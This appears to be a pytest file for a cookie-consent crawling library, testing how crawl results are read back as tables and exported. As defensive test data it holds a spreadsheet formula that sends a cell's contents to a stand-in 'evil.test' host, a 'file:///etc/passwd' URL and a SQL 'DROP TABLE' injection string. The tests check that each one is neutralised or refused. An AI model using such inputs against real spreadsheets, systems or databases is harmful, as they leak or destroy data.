"""A study read back as tables (issue 7): every table a DataFrame that agrees with the stored
result documents, failures with their reasons, screenshots beside the file, Parquet and CSV
exports, and clear errors for files that are not studies."""

from __future__ import annotations

import contextlib
import sqlite3
from pathlib import Path

import pandas as pd
import pytest

import consentlens
from consentlens.exceptions import StoreError
from consentlens.study import TABLES

SITES = {
    "skeleton": "https://skeleton.test/",
    "dialog": "https://dialog-equal.test/",
    "quiet": "https://quiet.test/",
    "nxdomain": "https://nxdomain.test/",
    "file": "file:///etc/passwd",
}


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory, quick_crawl: dict) -> consentlens.Study:
    store = tmp_path_factory.mktemp("study") / "study.sqlite"
    return consentlens.crawl(list(SITES.values()), store=store, workers=2, **quick_crawl)


def test_every_site_is_a_row_with_its_status(study: consentlens.Study) -> None:
    sites = study.sites
    assert list(sites["url"]) == list(SITES.values()), "input order"
    assert "report_json" not in sites.columns
    status = dict(zip(sites["url"], sites["status"], strict=True))
    for name in ("skeleton", "dialog", "quiet"):
        assert status[SITES[name]] == "ok"
    assert status[SITES["nxdomain"]] == "error"
    assert status[SITES["file"]] == "error"
    assert sites["banner_found"].dtype == "boolean"
    assert str(sites["started_at"].dtype).startswith("datetime64")
    assert (sites["attempts"] == 1).all()
    assert study.counts() == {
        "pending": 0,
        "running": 0,
        "ok": 3,
        "error": 2,
        "total": 5,
        "errors_by_kind": {"dns": 1, "forbidden_scheme": 1},
    }


def test_failed_sites_are_listed_with_their_reasons(study: consentlens.Study) -> None:
    failed = study.failed
    assert list(failed.columns) == ["url", "error_kind", "error_message", "attempts"]
    reasons = dict(zip(failed["url"], failed["error_kind"], strict=True))
    assert reasons == {SITES["nxdomain"]: "dns", SITES["file"]: "forbidden_scheme"}
    assert failed["error_message"].str.len().min() > 0
    # Neither is transient: neither was retried.
    assert (failed["attempts"] == 1).all()


def test_child_tables_agree_with_the_result_documents(study: consentlens.Study) -> None:
    requests = study.requests
    assert list(requests.columns[:2]) == ["site_url", "site_id"]
    for name in ("skeleton", "dialog", "quiet"):
        report = study.report(SITES[name])
        documented = [
            (phase, request["url"])
            for phase, observed in report.phases.items()
            if observed
            for request in observed["requests"]
        ]
        mine = requests[requests["site_url"] == SITES[name]]
        assert list(zip(mine["phase"], mine["url"], strict=True)) == documented, name
        buttons = study.buttons
        assert (buttons["site_url"] == SITES[name]).sum() == len(
            (report.banner or {}).get("buttons", [])
        )
        cookies = study.cookies
        documented_cookies = sum(
            len(observed["cookies"]) for observed in report.phases.values() if observed
        )
        assert (cookies["site_url"] == SITES[name]).sum() == documented_cookies
        findings = study.findings
        assert sorted(findings[findings["site_url"] == SITES[name]]["id"]) == sorted(
            f.id for f in report.findings
        )
    pixel = requests[requests["url"].str.startswith("https://www.facebook.com/tr/")]
    assert len(pixel) == 1
    assert pixel["third_party"].dtype == "boolean"
    assert bool(pixel["third_party"].iloc[0])


def test_a_report_comes_back_whole_and_unknown_urls_say_so(study: consentlens.Study) -> None:
    report = study.report(SITES["skeleton"])
    assert isinstance(report, consentlens.SiteReport)
    assert report.url == SITES["skeleton"]
    assert report.ok
    assert study.report(SITES["nxdomain"]).error["kind"] == "dns"
    with pytest.raises(KeyError):
        study.report("https://not-in-the-study.test/")


def test_screenshots_are_files_beside_the_study(study: consentlens.Study) -> None:
    assert study.artifacts_dir == study.path.with_name("study.artifacts")
    shots = study.sites["screenshot"].dropna()
    assert len(shots) == 3, "every site that loaded has its screenshot"
    for name in shots:
        assert (study.artifacts_dir / name).read_bytes().startswith(b"\x89PNG")
    report = study.report(SITES["skeleton"])
    assert report.to_dict()["screenshot"] in set(shots)


def test_parquet_and_csv_exports_hold_every_table(study: consentlens.Study, tmp_path: Path) -> None:
    parquet = study.to_parquet(tmp_path / "parquet")
    csv = study.to_csv(tmp_path / "csv")
    assert [p.stem for p in parquet] == list(TABLES)
    assert [p.stem for p in csv] == list(TABLES)
    for name, parquet_file, csv_file in zip(TABLES, parquet, csv, strict=True):
        expected = study.table(name)
        from_parquet = pd.read_parquet(parquet_file)
        assert list(from_parquet.columns) == list(expected.columns), name
        assert len(from_parquet) == len(expected), name
        assert len(pd.read_csv(csv_file)) == len(expected), name
    sites = pd.read_parquet(tmp_path / "parquet" / "sites.parquet")
    assert list(sites["url"]) == list(SITES.values())
    assert sites["banner_found"].dtype == "boolean"


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    from consentlens.study import _spreadsheet_safe

    frame = pd.DataFrame(
        {
            "title": ['=HYPERLINK("https://evil.test/?"&A1)', "+1", "-2", "@SUM(A1)", "\tx", "ok"],
            "value": [1, 2, 3, 4, 5, 6],
            "note": [None, "a=b", "", "=1", "plain", "-"],
        }
    )
    safe = _spreadsheet_safe(frame)
    assert list(safe["title"]) == [
        '\'=HYPERLINK("https://evil.test/?"&A1)',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "ok",
    ]
    assert list(safe["value"]) == [1, 2, 3, 4, 5, 6], "numbers are not text"
    assert safe["note"].isna()[0] and list(safe["note"][1:]) == ["a=b", "", "'=1", "plain", "'-"]
    assert frame["title"][0].startswith("="), "the frame given is left as it was"
    path = tmp_path / "t.csv"
    safe.to_csv(path, index=False)
    assert pd.read_csv(path)["title"][1] == "'+1"


def test_summary_and_display(study: consentlens.Study) -> None:
    summary = study.summary()
    assert summary["total"] == 5
    assert summary["runs"] == 1
    assert summary["sites_by_finding"].get("no-banner-but-tracking") == 1
    html = study._repr_html_()
    assert "5 sites" in html and "dns 1" in html
    assert "ok=3" in repr(study)
    runs = study.runs
    assert len(runs) == 1
    assert runs["sites_done"].iloc[0] == 3
    assert runs["sites_failed"].iloc[0] == 2
    assert not pd.isna(runs["finished_at"].iloc[0])
    # The run began before any browser started; its first site told it which one ran.
    assert runs["browser_version"].iloc[0].startswith("Chromium")
    assert runs["tracker_lists_json"].iloc[0] != "[]"


def test_polars_tables_match_the_pandas_ones(study: consentlens.Study) -> None:
    for name in ("sites", "requests", "findings"):
        frame = study.to_polars(name)
        expected = study.table(name)
        assert frame.columns == list(expected.columns), name
        assert frame.height == len(expected), name
    assert frame["id"].to_list() == list(study.findings["id"])


def test_what_is_not_a_study_is_refused(tmp_path: Path, study: consentlens.Study) -> None:
    with pytest.raises(FileNotFoundError):
        consentlens.open_study(tmp_path / "missing.sqlite")
    assert not (tmp_path / "missing.sqlite").exists(), "reading creates nothing"
    other = tmp_path / "other.sqlite"
    with contextlib.closing(sqlite3.connect(other)) as conn:
        conn.execute("CREATE TABLE t (x)")
    with pytest.raises(StoreError, match="not a consentlens study"):
        consentlens.open_study(other)
    with pytest.raises(ValueError, match="unknown table"):
        study.table("sites; DROP TABLE sites")
